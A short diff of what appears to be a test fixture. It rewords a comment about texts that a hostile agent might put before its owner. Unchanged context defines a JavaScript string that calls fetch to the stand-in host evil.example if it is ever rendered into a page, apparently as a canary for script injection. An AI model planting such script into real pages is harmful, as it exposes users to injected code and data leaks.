@@ -1,4 +1,4 @@
-/** What a hostile agent, or a stranger through it, puts before its owner: names, contents, log lines and terminal output. */
+/** Texts that a hostile agent, or a stranger through it, puts before its owner: names, contents, log lines and terminal output. */
 
 /** Runs if any of this ever becomes part of a page. */
 const act = `window.ran=1;fetch('https://evil.example/ran')`;
